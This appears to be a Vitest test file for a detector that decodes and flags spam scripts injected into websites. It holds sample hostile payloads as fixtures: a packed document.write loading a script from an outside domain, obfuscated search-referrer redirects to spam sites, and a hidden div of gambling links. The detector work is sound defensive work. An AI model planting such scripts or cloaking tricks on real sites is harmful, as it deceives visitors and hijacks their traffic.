import { describe, expect, it } from 'vitest';
import { analyzeScript } from '../../../lib/spam/scripts';
import { decodeEscapes, joinConcatenations, readableSource, unpack } from '../../../lib/spam/decode';
import { ARTICLE, LINKS, spamOf } from './helpers';

/** Dean Edwards' packer (the encoder side), to make packed test scripts. */
function pack(src: string, a = 62): string {
  const words = [...new Set(src.match(/\b\w+\b/g) ?? [])].sort((x, y) => src.split(x).length - src.split(y).length).reverse();
  const enc = (c: number): string => (c < a ? '' : enc(Math.floor(c / a))) + (c % a > 35 ? String.fromCharCode((c % a) + 29) : (c % a).toString(36));
  const codes = new Map(words.map((w, i) => [w, enc(i)]));
  const payload = src.replace(/\b\w+\b/g, (w) => codes.get(w)!).replace(/\\/g, '\\\\').replace(/'/g, "\\'");
  return `eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--)d[e(c)]=k[c]||e(c);k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1;};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p;}('${payload}',${a},${words.length},'${words.join('|')}'.split('|'),0,{}))`;
}

const WRITE = `window["document"]["write"]('<script type="text/javascript" src="https://cdn-tongji.xyz/ty.js"></script>');`;
const PACKED = pack(WRITE);

describe('reading injected scripts without running them', () => {
  it('decodes escapes and joins concatenations', () => {
    expect(decodeEscapes('"\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72" "\\u767e"')).toBe('"referrer" "百"');
    expect(decodeEscapes('String.fromCharCode(104,105)')).toBe('"hi"');
    expect(joinConcatenations(`"<di"+"v styl"+'e=x>'`)).toBe(`"<div style=x>'`);
  });

  it("unpacks Dean Edwards' packer", () => {
    expect(unpack(PACKED)).toBe(WRITE);
    expect(unpack('var a = 1;')).toBeNull();
  });

  it('finds search-referrer redirects, also behind _0x string arrays', () => {
    const plain = `var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sogou")>0){window.location.href="http://www.spam-site.com/";}`;
    expect(analyzeScript(plain, 'www.example.gov.cn')).toMatchObject({ target: 'http://www.spam-site.com/', strong: true });
    const hex = (w: string) => `"${[...w].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}"`;
    const obf = `var _0x1a2b=[${['referrer', 'baidu', 'indexOf', 'href', 'http://www.yx-55.com/'].map(hex).join(',')}];(function(){var _0xc1=document[_0x1a2b[0]];if(_0xc1[_0x1a2b[2]](_0x1a2b[1])>0){location[_0x1a2b[3]]=_0x1a2b[4]}})();`;
    const found = analyzeScript(obf, 'www.example.gov.cn', readableSource(obf))!;
    expect(found.target).toBe('http://www.yx-55.com/');
    expect(found.does.join(' ')).toMatch(/search engines.*obfuscated/);
  });

  it('leaves analytics, site widgets and same-site redirects alone', () => {
    for (const code of [
      `var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?3f1e";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();`,
      `var ref=document.referrer;if(ref.indexOf("baidu")>-1){document.cookie="src=baidu;path=/"}`,
      `document.write('<iframe src="http://www.facebook.com/plugins/like.php?href=x" width="90" height="20"></iframe>');`,
      `if(/mobile/i.test(navigator.userAgent)){location.href="http://m.example.gov.cn/"}`,
      `function go(){window.open("http://www.partner.com/")}`,
    ])
      expect(analyzeScript(code, 'www.example.gov.cn'), code).toBeNull();
  });

  it('reports scripts and hides what a document.write wrapper hides', () => {
    const body = `${ARTICLE}<script>document.write("<di"+"v style='disp"+"lay:none'>");</script><div>${LINKS}</div><script>document.write("</"+"div>");</script>
      <script>${PACKED}</script>`;
    const hits = spamOf(body).hits;
    expect(hits.filter((h) => h.action === 'report').map((h) => h.text)).toEqual(["<div style='display:none'>", 'https://cdn-tongji.xyz/ty.js']);
    expect(hits.filter((h) => h.action === 'hidden')).toMatchObject([{ technique: 'T8', text: '澳门新葡京官网 百家乐开户 时时彩平台' }]);
  });
});
